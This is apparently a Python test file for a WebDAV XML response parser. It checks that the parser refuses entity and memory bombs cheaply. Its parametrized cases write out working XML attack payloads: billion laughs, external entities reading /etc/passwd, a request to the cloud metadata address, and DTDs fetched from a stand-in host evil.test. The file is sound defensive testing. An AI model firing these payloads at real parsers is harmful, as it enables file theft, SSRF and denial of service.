"""XML from a WebDAV server: no entity, no outside, and never more memory than the answer is long, many times over."""

from __future__ import annotations

import tracemalloc

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rucio_cs3.cs3 import errors
from rucio_cs3.cs3.checksums import HEX_DIGITS
from rucio_cs3.cs3.reference import MountRoot, Reference
from rucio_cs3.cs3.webdav import multistatus
from tests.unit.hostile import TRICKY

FILE = Reference(MountRoot("/"), "d/f")

#: An answer about one file, with a place for properties and one for what may stand before it.
ANSWER = (
    '<?xml version="1.0"?>{before}<d:multistatus xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns"><d:response>'
    "<d:href>/f</d:href><d:propstat><d:prop><d:getcontentlength>5</d:getcontentlength>{within}</d:prop>"
    "<d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response></d:multistatus>"
)

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 20))


def answer(within: str = "", before: str = "") -> bytes:
    return ANSWER.format(within=within, before=before).encode()


def test_the_answer_itself_is_read() -> None:
    assert multistatus.parse(answer(), FILE).size == 5


@pytest.mark.parametrize(
    ("before", "within"),
    [
        (f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>', "<d:getetag>&l19;</d:getetag>"),
        (f'<!DOCTYPE x [<!ENTITY a "{"a" * 30_000}">]>', f"<d:getetag>{'&a;' * 8000}</d:getetag>"),
        ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "<d:getetag>&a;</d:getetag>"),
        ('<!DOCTYPE x [<!ENTITY a SYSTEM "http://169.254.169.254/">]>', "<d:getetag>&a;</d:getetag>"),
        ('<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.test/x.dtd"> %a;]>', ""),
        ('<!DOCTYPE x SYSTEM "http://evil.test/x.dtd">', ""),
        ('<!DOCTYPE x PUBLIC "x" "http://evil.test/x.dtd">', ""),
        ("<!DOCTYPE x>", ""),
        ("", "<d:getetag>&undefined;</d:getetag>"),
        ("", f"<x{' a=' * 5}>"),
        ("", "<d:x>" * 10_000),
        ("", "<d:x>" * 10_000 + "</d:x>" * 10_000),
        ("", "<x/>" * 15_000),
        ("", f'<x xmlns="{"u" * 32_000}">' + "".join(f"<b{n}/>" for n in range(4000)) + "</x>"),
        ("", f'<x xmlns:p="{"u" * 32_000}">' + "".join(f"<b p:a{n}=''/>" for n in range(2000)) + "</x>"),
        ("", "".join(f"<b a{n}=''/>" for n in range(5000))),
    ],
    ids=[
        "billion laughs", "quadratic", "file", "metadata service", "parameter entity", "system", "public", "doctype",
        "undefined", "attributes", "open", "deep", "many", "long namespace", "long prefixed namespace",
        "many attributes",
    ],
)  # fmt: skip
def test_a_bomb_is_refused_in_little_memory(before: str, within: str) -> None:
    body = answer(within, before)
    tracemalloc.start()
    try:
        with pytest.raises(errors.ProtocolViolation) as caught:
            multistatus.parse(body, FILE)
        assert tracemalloc.get_traced_memory()[1] < 10_000_000
    finally:
        tracemalloc.stop()
    assert len(str(caught.value)) < 500


def test_an_answer_of_one_long_name_takes_little_memory() -> None:
    """Just below the limits: each name is kept with that of its namespace."""
    uri = "u" * multistatus._NAMESPACE_MAX_CHARACTERS
    within = f'<x xmlns="{uri}">' + "".join(f"<b{n}/>" for n in range(multistatus._ELEMENTS_MAX - 10)) + "</x>"
    tracemalloc.start()
    try:
        assert multistatus.parse(answer(within), FILE).size == 5
        assert tracemalloc.get_traced_memory()[1] < 10_000_000
    finally:
        tracemalloc.stop()


TAGS = st.sampled_from(
    ["d:prop", "d:propstat", "d:status", "d:response", "d:resourcetype", "d:collection", "d:getcontentlength",
     "d:getetag", "oc:checksums", "oc:checksum", "d:getlastmodified", "x"]
)  # fmt: skip
WORDS = st.sampled_from(
    ["5", "-1", "1e3", "9" * 30, "٣", "HTTP/1.1 200 OK", "HTTP/1.1 404", "ADLER32:1", "SHA1:x MD5:y", "adler32=000",
     "&amp;", "&#0;", "&#x110000;", "<![CDATA[x]]>", "Sun, 06 Nov 1994 08:49:37 GMT", " "]
)  # fmt: skip


@given(st.recursive(WORDS, lambda inner: st.tuples(TAGS, st.lists(inner, max_size=3)).map(
    lambda made: f"<{made[0]}>{''.join(made[1])}</{made[0]}>"
), max_leaves=15))  # fmt: skip
def test_any_properties_are_read_or_refused(within: str) -> None:
    try:
        info = multistatus.parse(answer(within), FILE)
    except errors.ProtocolViolation:
        return
    assert 0 <= info.size < 10**18
    assert info.reference == FILE
    assert all(len(value) == HEX_DIGITS[name] for name, value in info.checksums.items())


@given(TRICKY | st.lists(st.sampled_from(["md5", "adler32", "sha", "=", ",", "1", "=="]), max_size=9).map("".join))
def test_any_digest_is_read(header: str) -> None:
    assert all(len(value) == HEX_DIGITS[name] for name, value in multistatus.digest(header).items())
